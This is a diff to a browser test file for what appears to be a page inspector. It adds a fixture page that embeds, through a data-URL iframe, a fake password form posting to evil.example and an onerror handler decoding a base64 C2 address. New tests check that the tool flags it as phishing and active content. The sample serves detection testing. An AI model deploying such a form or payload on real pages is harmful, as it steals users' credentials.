@@ -15,9 +15,12 @@ import { type Served, serve } from '../support/serve.ts';
 
 const gif = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';
 const css = `data:text/css,${'.a{color:red}'.repeat(400)}`;
+const offer =
+  '<form action=https://evil.example/steal method=post><label>Password <input type=password></label></form>' +
+  '<img src=x onerror="parent.postMessage(atob(`aHR0cHM6Ly9jMi5leGFtcGxlLw==`))">';
 const page = `<!doctype html><title>Views</title><link rel="stylesheet" href="${css}">
 <img id="logo" src="${gif}">${`<img src="${gif}">`.repeat(200)}
-<iframe src="data:text/html,%3Cp%3EHello"></iframe><a href="data:image/png;base64,AA*A">broken</a>
+<iframe src="data:text/html,${encodeURIComponent(offer)}"></iframe><a href="data:image/png;base64,AA*A">broken</a>
 <a href="data:text/plain,${'%61'.repeat(900)}">text</a>`;
 
 const chromium = launchForFile();
@@ -247,6 +250,28 @@ test('the views of a page', async (t) => {
     },
   );
 
+  await t.test('before it, what can run: when, what it does, and its code', async () => {
+    const run = inspector.locator('.runs [data-run]');
+    await run.getByText('Addresses named: ').waitFor();
+    assert.equal(await run.count(), 1);
+    assert.deepEqual(
+      [
+        await run.locator('strong').textContent(),
+        ...(await run.locator('p:not(.settings)').allTextContents()),
+      ],
+      [
+        'Now, although text/html in an iframe is disallowed',
+        'Asks for a password and sends form data to evil.example from a page without a verifiable address.',
+        'Active content: onerror handler.',
+        'Addresses named: https://evil.example/steal, https://c2.example/ (atob)',
+      ],
+    );
+    await run.locator('[data-action="run-code"]').click();
+    await run.locator('.line', { hasText: /<input type=password>$/ }).waitFor();
+    await run.locator('.decoded li', { hasText: 'atob https://c2.example/' }).waitFor();
+    await run.locator('[data-action="run-code"]').click();
+  });
+
   await t.test('its treemap is walked as the list is', async () => {
     await treemap.focus();
     const active = () =>
@@ -312,7 +337,7 @@ test('the views of a page', async (t) => {
     const allowed = await inspector
       .locator('[data-rule]')
       .evaluateAll((rules) => rules.map((each) => (each as HTMLElement).dataset.rule));
-    assert.deepEqual(allowed, ['disallowed-type']);
+    assert.deepEqual(allowed.toSorted(), ['active-content', 'phishing']);
     await inspector.click('.tab-header [data-filter="not-allowed"]');
     await rule('duplicates').waitFor();
     assert.equal(await inspector.locator('[data-rule]').count(), all);
